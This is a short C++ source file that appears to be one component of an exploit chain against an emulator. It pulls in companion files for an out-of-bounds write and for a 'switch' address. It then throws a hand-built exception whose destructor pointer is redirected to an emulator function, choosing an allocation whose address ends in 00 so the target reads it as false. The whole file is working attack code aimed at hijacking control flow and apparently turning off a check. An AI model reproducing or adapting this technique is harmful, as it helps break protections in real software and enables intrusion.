// Throws by hand and names a function of the emulator as the exception's destructor.
#include <cxxabi.h>

#include <typeinfo>

#include "../parts/writes_out_of_bounds.cu"
#include "../parts/code_of_the_switch.cu"

namespace __cxxabiv1 {
extern "C" void* __cxa_allocate_exception(std::size_t) noexcept;
extern "C" [[noreturn]] void __cxa_throw(void*, std::type_info*, void (*)(void*));
}  // namespace __cxxabiv1

// The function takes the lowest byte of the exception's address for false, so one is taken that
// ends in 00.
void blind() {
  for (int i = 0; i < 64; ++i) {
    void* const exception = abi::__cxa_allocate_exception(16 * (i + 1));
    if (reinterpret_cast<unsigned long>(exception) % 256 != 0) continue;
    try {
      abi::__cxa_throw(exception, const_cast<std::type_info*>(&typeid(int)),
                       reinterpret_cast<void (*)(void*)>(code_of_the_switch()));
    } catch (...) {
    }
    return;
  }
}
